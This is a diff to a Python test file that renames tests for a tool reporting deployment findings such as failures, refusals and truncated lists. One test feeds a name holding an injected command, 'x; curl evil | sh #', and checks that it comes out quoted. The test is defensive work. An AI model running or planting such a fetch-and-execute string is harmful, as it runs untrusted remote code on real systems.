@@ -35,7 +35,7 @@ def test_nothing_needs_attention_when_everything_is_in_sync() -> None:
     assert findings_of(found_in([record()])) == []
 
 
-def test_what_to_act_on_comes_first() -> None:
+def test_items_that_need_action_are_listed_first() -> None:
     failed = record(outcome="failed", reason="kms-failed", event_id="failed")
     wrong = record(outcome="violation", reason="name-denied", event_id="wrong", engine="native")
     found = findings_of(
@@ -88,7 +88,7 @@ def test_usage_is_noted_after_what_a_verification_found_and_nothing_twice() -> N
     ]
 
 
-def test_failures_of_one_cause_are_one_item_and_refusals_go_by_name() -> None:
+def test_failures_of_one_cause_are_one_item_and_refusals_are_grouped_by_name() -> None:
     failed = [
         record(
             outcome="failed",
@@ -106,20 +106,20 @@ def test_failures_of_one_cause_are_one_item_and_refusals_go_by_name() -> None:
     assert found["repeats"].items[0].note.startswith("3 pushes since ")
 
 
-def test_long_lists_are_cut_and_the_rest_is_counted() -> None:
+def test_long_lists_are_truncated_and_the_rest_is_counted() -> None:
     records = [one for number in range(ITEMS + 5) for one in refusals(f"team-a/tmp-{number}")]
     (found,) = findings_of(found_in(sorted(records, key=lambda one: one.at, reverse=True)))
     assert (len(found.items), found.more) == (ITEMS, 5)
     assert found.title == f"{ITEMS + 5} refusals repeat"
 
 
-def test_what_is_not_known_is_not_claimed() -> None:
+def test_nothing_is_claimed_about_missing_data() -> None:
     failed = record(outcome="failed", reason="kms-failed")
     (found,) = findings_of(aggregate([failed], since=UNTIL - timedelta(days=1), until=UNTIL, knows_created=False))
     assert found.title == "1 failed event"
     assert "does not show which" in found.explanation
 
 
-def test_a_command_to_copy_runs_nothing_from_a_name() -> None:
+def test_a_name_cannot_inject_code_into_a_command_to_copy() -> None:
     (found,) = findings_of(found_in(refusals("x; curl evil | sh #")))
     assert found.command == "deployer explain 300000000001 'x; curl evil | sh #'"
